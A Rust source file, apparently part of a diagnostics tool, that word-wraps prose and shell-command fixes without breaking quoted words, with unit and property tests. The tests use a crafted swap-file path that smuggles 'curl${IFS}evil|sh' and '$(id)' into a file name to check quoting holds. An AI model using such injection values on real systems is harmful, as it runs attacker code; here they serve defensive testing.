//! Wrapping text to a width: prose, and fixes whose shell commands a person copies whole.

/// Word-wrap `text` to lines of at most `width` characters (the first line after `first`
/// characters of prefix, the rest after `indent`); words longer than a line are split.
pub(crate) fn wrap(text: &str, width: usize, first: usize, indent: usize) -> Vec<String> {
    // Linear in the text: each word is measured once and a long word is cut in place, so a
    // megabyte-long line from a hostile tree costs no more than a megabyte of short words.
    let mut lines = Vec::new();
    let mut cur = String::new();
    let mut cur_len = 0;
    let mut room = width.saturating_sub(first).max(8);
    let later = width.saturating_sub(indent).max(8);
    for word in text.split_whitespace() {
        let mut word = word;
        let mut len = word.chars().count();
        loop {
            let need = if cur_len == 0 { len } else { cur_len + 1 + len };
            if need <= room {
                if cur_len > 0 {
                    cur.push(' ');
                    cur_len += 1;
                }
                cur.push_str(word);
                cur_len += len;
                break;
            }
            if cur_len == 0 {
                // A word longer than the line: split it.
                let cut = word.char_indices().nth(room).map_or(word.len(), |(i, _)| i);
                lines.push(word[..cut].to_string());
                word = &word[cut..];
                len = len.saturating_sub(room);
            } else {
                lines.push(std::mem::take(&mut cur));
                cur_len = 0;
            }
            room = later;
            if word.is_empty() {
                break;
            }
        }
    }
    if !cur.is_empty() || lines.is_empty() {
        lines.push(cur);
    }
    lines
}

/// Where a word of a fix's text may be followed by a line break.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum After {
    /// A word of prose: anywhere.
    Prose,
    /// A shell operator (`&&`, `||`, `|`, `;`) inside a command: the shell reads on across a
    /// line break there, so the command pasted from two lines is the same command.
    Operator,
    /// A word of a command followed by another: a line break would end the command, so one
    /// goes there only with ` \` before it.
    Word,
}

/// A word of a fix's text (which holds the words, quotes included, that make one shell word).
#[derive(Debug, Clone, Copy)]
struct Piece<'a> {
    text: &'a str,
    len: usize,
    after: After,
}

/// The words of `text`: prose with shell commands between backticks (`` `sudo swapoff '/a b'` ``).
/// Inside a command, whitespace within quotes (`'…'`, `"…"`) or after a backslash separates
/// nothing: a quoted word, spaces and all, is one piece.
fn shell_pieces(text: &str) -> Vec<Piece<'_>> {
    #[derive(PartialEq)]
    enum In {
        Prose,
        Command,
        Single,
        Double,
    }
    let mut pieces = Vec::new();
    let mut state = In::Prose;
    let mut escaped = false;
    // The word being read: where it starts, its length, whether it ends in an unquoted operator.
    let mut start = None;
    let mut len = 0;
    let mut operator = false;
    let mut ampersand = false;
    for (i, c) in text.char_indices() {
        let bare = state == In::Command && !escaped;
        if c.is_whitespace() && (state == In::Prose || bare) {
            if let Some(from) = start.take() {
                let after = match state {
                    In::Command if operator => After::Operator,
                    In::Command => After::Word,
                    _ => After::Prose,
                };
                pieces.push(Piece {
                    text: &text[from..i],
                    len,
                    after,
                });
            }
            (len, operator, ampersand) = (0, false, false);
            continue;
        }
        start.get_or_insert(i);
        len += 1;
        operator = bare && (matches!(c, ';' | '|') || (c == '&' && ampersand));
        ampersand = bare && c == '&';
        if escaped {
            escaped = false;
            continue;
        }
        state = match (state, c) {
            (In::Prose, '`') | (In::Single, '\'') | (In::Double, '"') => In::Command,
            (In::Command, '`') => In::Prose,
            (In::Command, '\'') => In::Single,
            (In::Command, '"') => In::Double,
            (s @ (In::Command | In::Double), '\\') => {
                escaped = true;
                s
            }
            (s, _) => s,
        };
    }
    if let Some(from) = start {
        pieces.push(Piece {
            text: &text[from..],
            len,
            after: After::Prose,
        });
    }
    pieces
}

/// The lines [`wrap_commands`] fills.
struct Lines {
    lines: Vec<String>,
    cur: String,
    cur_len: usize,
    /// Room on the line being filled, and on every line after the first.
    room: usize,
    later: usize,
}

impl Lines {
    fn fits(&self, len: usize) -> bool {
        let need = if self.cur.is_empty() {
            len
        } else {
            self.cur_len + 1 + len
        };
        need <= self.room
    }

    /// The line ended: the next one is begun (an empty first line is kept, its prefix alone).
    fn newline(&mut self) {
        self.lines.push(std::mem::take(&mut self.cur));
        self.cur_len = 0;
        self.room = self.later;
    }

    fn append(&mut self, run: &[Piece<'_>]) {
        for p in run {
            if !self.cur.is_empty() {
                self.cur.push(' ');
                self.cur_len += 1;
            }
            self.cur.push_str(p.text);
            self.cur_len += p.len;
        }
    }

    /// `run` on this line when it fits, else on the next when it fits there; false when it is
    /// longer than any line.
    fn place(&mut self, run: &[Piece<'_>]) -> bool {
        let len = run_len(run);
        if self.fits(len) {
            self.append(run);
            true
        } else if len <= self.later {
            self.newline();
            self.append(run);
            true
        } else {
            false
        }
    }
}

/// The width of `run`'s words with a space between each two.
fn run_len(run: &[Piece<'_>]) -> usize {
    run.iter().map(|p| p.len).sum::<usize>() + run.len().saturating_sub(1)
}

/// [`wrap`] for a fix: prose with shell commands between backticks, which a person copies into
/// a root shell, so no line break may go inside a quoted word or change what the shell runs. A
/// command that does not fit on the rest of the line begins the next; one longer than a line
/// goes on lines of its own, broken after its operators (`&&`, `||`, `|`, `;`) and, only where
/// a part between them is still too long, between two of its words with ` \` ending the line
/// (the shell joins such lines back). A single word longer than a line, quoted or not, is never
/// cut: it runs past the width (a terminal wraps it as one line, and the dashboard marks the cut
/// with `…`).
pub(crate) fn wrap_commands(text: &str, width: usize, first: usize, indent: usize) -> Vec<String> {
    let pieces = shell_pieces(text);
    let mut l = Lines {
        lines: Vec::new(),
        cur: String::new(),
        cur_len: 0,
        room: width.saturating_sub(first).max(8),
        later: width.saturating_sub(indent).max(8),
    };
    // Runs of words that prose does not separate: a word, or a command with what touches it.
    for chunk in pieces.split_inclusive(|p| p.after == After::Prose) {
        if l.place(chunk) {
            continue;
        }
        if !l.cur.is_empty() {
            l.newline();
        }
        for part in chunk.split_inclusive(|p| p.after == After::Operator) {
            if l.place(part) {
                continue;
            }
            if !l.cur.is_empty() {
                l.newline();
            }
            for (i, word) in part.iter().enumerate() {
                // An operator stays after the word before it: room is kept for it, or for the
                // ` \` that ends the line when another word follows.
                let operator = |w: &Piece<'_>| matches!(w.text, "&&" | "||" | "|" | ";");
                if i > 0 && i + 1 == part.len() && operator(word) {
                    l.append(std::slice::from_ref(word));
                    continue;
                }
                let continued = match part.get(i + 1) {
                    Some(next) if i + 2 == part.len() && operator(next) => 1 + next.len,
                    Some(_) => 2,
                    None => 0,
                };
                if !l.cur.is_empty() && !l.fits(word.len + continued) {
                    l.cur.push_str(" \\");
                    l.newline();
                }
                l.append(std::slice::from_ref(word));
            }
        }
    }
    if !l.cur.is_empty() || l.lines.is_empty() {
        l.lines.push(l.cur);
    }
    l.lines
}

/// `s` cut to `max` columns with `…` (or `~` in ASCII) in the middle, so both ends stay.
pub fn fit(s: &str, max: usize, ascii: bool) -> String {
    let n = s.chars().count();
    if n <= max {
        return s.to_string();
    }
    if max < 4 {
        return s.chars().take(max).collect();
    }
    let keep = max - 1;
    let head = keep / 2;
    let tail = keep - head;
    let mut out: String = s.chars().take(head).collect();
    out.push(if ascii { '~' } else { '…' });
    out.extend(s.chars().skip(n - tail));
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn wrapping() {
        let l = wrap("aaa bbb ccc dddddddddddddddddddd", 12, 2, 4);
        assert!(
            l.iter()
                .enumerate()
                .all(|(i, x)| x.chars().count() + if i == 0 { 2 } else { 4 } <= 12),
            "{l:?}"
        );
        assert_eq!(l[0], "aaa bbb");
    }

    /// What a person copying the lines gets back: each line's ` \` continuation taken off and
    /// the lines joined by a space — the text itself, its runs of whitespace made one space.
    fn joined(lines: &[String]) -> String {
        lines
            .iter()
            .map(|l| l.strip_suffix(" \\").unwrap_or(l))
            .filter(|l| !l.is_empty())
            .collect::<Vec<_>>()
            .join(" ")
    }

    /// Whether every quoted word of `text` (the pieces that hold whitespace) is whole on one of
    /// `lines`.
    fn quoted_words_whole(text: &str, lines: &[String]) -> bool {
        shell_pieces(text)
            .iter()
            .filter(|p| p.text.contains(char::is_whitespace))
            .all(|p| lines.iter().any(|l| l.contains(p.text)))
    }

    /// The swap-priorities fix for a path built to break a shell command, at 80 columns after
    /// `fix: `: the quoted path (spaces, a backtick, quotes of both kinds) is never cut, the
    /// command goes on lines of its own broken after `&&`, and the text is unchanged.
    #[test]
    fn a_fix_breaks_only_where_the_shell_reads_on() {
        let path = shlex::try_quote(r#"/var/swap;curl${IFS}evil|sh;# $(id)`id`'q" x"#).unwrap();
        assert_eq!(path, r#"'/var/swap;curl${IFS}evil|sh;# $(id)`id`'"'q\" x""#);
        let fix = format!(
            "Give them one priority: `sudo swapoff /swapfile-fx && sudo swapon -p 1 /swapfile-fx \
             && sudo swapoff {path} && sudo swapon -p 1 {path}`; to keep it, add `pri=1` to the \
             options of each swap line in /etc/fstab (e.g. `/swapfile-fx none swap \
             defaults,pri=1 0 0`)."
        );
        let lines = wrap_commands(&fix, 80, 13, 13);
        assert_eq!(
            lines,
            [
                "Give them one priority:".to_string(),
                "`sudo swapoff /swapfile-fx && sudo swapon -p 1 /swapfile-fx &&".into(),
                format!("sudo swapoff {path} &&"),
                "sudo swapon -p 1 \\".into(),
                format!("{path}`; to keep it, add"),
                "`pri=1` to the options of each swap line in /etc/fstab (e.g.".into(),
                "`/swapfile-fx none swap defaults,pri=1 0 0`).".into(),
            ],
            "{lines:#?}"
        );
        assert_eq!(
            joined(&lines),
            fix.split_whitespace().collect::<Vec<_>>().join(" ")
        );
        assert!(quoted_words_whole(&fix, &lines));
        // Too long for a line, the part between two operators is broken between its words,
        // with ` \`; the quoted word, longer than the line, runs past it whole.
        let lines = wrap_commands(&fix, 40, 13, 13);
        assert!(lines.iter().any(|l| l.ends_with(" \\")), "{lines:#?}");
        assert!(lines.contains(&format!("{path} &&")), "{lines:#?}");
        assert_eq!(
            joined(&lines),
            fix.split_whitespace().collect::<Vec<_>>().join(" ")
        );
        assert!(quoted_words_whole(&fix, &lines));
    }

    #[test]
    fn prose_wraps_as_wrap_does() {
        let text = "aaa bbb ccc dddd eeeeeee ff g hhhhhhh iii";
        for width in 8..30 {
            assert_eq!(wrap_commands(text, width, 2, 4), wrap(text, width, 2, 4));
        }
    }

    proptest::proptest! {
        /// Any text of prose and commands, at any width: joined again, the lines are the text,
        /// and no quoted word is cut.
        #[test]
        fn fixes_wrap_without_changing_a_command(
            parts in proptest::collection::vec(
                proptest::sample::select(vec![
                    "word", "a", "prose,", "(e.g.", "`sudo", "swapoff", "-p", "1", "&&", "||",
                    "|", "tee", "x;", "`;", "`.", "'/a b c'", "\"x y\"", "'q\"r s'\"t u\"",
                    "'/var/swap;curl${IFS}evil|sh;# $(id)`id`'\"'q\\\" x\"", "a\\ z",
                    "/sys/block/zram0/x`",
                ]),
                0..40,
            ),
            width in 10usize..100,
            first in 0usize..20,
        ) {
            let text = parts.join(" ");
            let lines = wrap_commands(&text, width, first.min(width), 4.min(width));
            proptest::prop_assert_eq!(
                joined(&lines),
                text.split_whitespace().collect::<Vec<_>>().join(" ")
            );
            proptest::prop_assert!(quoted_words_whole(&text, &lines), "{:#?}", lines);
        }
    }

    #[test]
    fn wrapping_cuts_long_words_by_characters() {
        let l = wrap("ééééééééééé ab", 10, 2, 0);
        assert_eq!(l, ["éééééééé", "ééé ab"]);
        assert_eq!(wrap("", 10, 0, 0), [""]);
    }

    #[test]
    fn wrapping_is_linear_in_the_text() {
        // Eight times the text may take about eight times as long, never sixty-four (the quadratic
        // version measured x99). Compared with itself, so the build profile and the machine's
        // speed drop out; timed in this thread's CPU time, so waiting for a core on a loaded
        // machine does not count, and the fastest of nine alternating runs counts.
        let cpu = || {
            let t = rustix::time::clock_gettime(rustix::time::ClockId::ThreadCPUTime);
            std::time::Duration::new(t.tv_sec as u64, t.tv_nsec as u32)
        };
        for word in ["x", "word "] {
            let small = word.repeat((64 << 10) / word.len());
            let large = word.repeat((512 << 10) / word.len());
            let time = |text: &str| {
                let t = cpu();
                assert!(wrap(text, 80, 2, 4).len() > text.len() / 80);
                cpu().saturating_sub(t)
            };
            let (mut t_small, mut t_large) = (time(&small), time(&large));
            for _ in 0..8 {
                t_small = t_small.min(time(&small));
                t_large = t_large.min(time(&large));
            }
            let ratio = t_large.as_secs_f64() / t_small.as_secs_f64().max(1e-6);
            assert!(
                ratio < 32.0,
                "{word:?}: 64 KiB in {t_small:?}, 512 KiB in {t_large:?} (x{ratio:.1})"
            );
        }
    }

    #[test]
    fn fit_keeps_both_ends() {
        assert_eq!(
            fit("/very/long/path/to/swapfile", 12, false),
            "/very…apfile"
        );
        assert_eq!(fit("/very/long/path/to/swapfile", 12, true), "/very~apfile");
        assert_eq!(fit("short", 12, false), "short");
        assert_eq!(fit("abcdef", 2, false), "ab");
    }
}
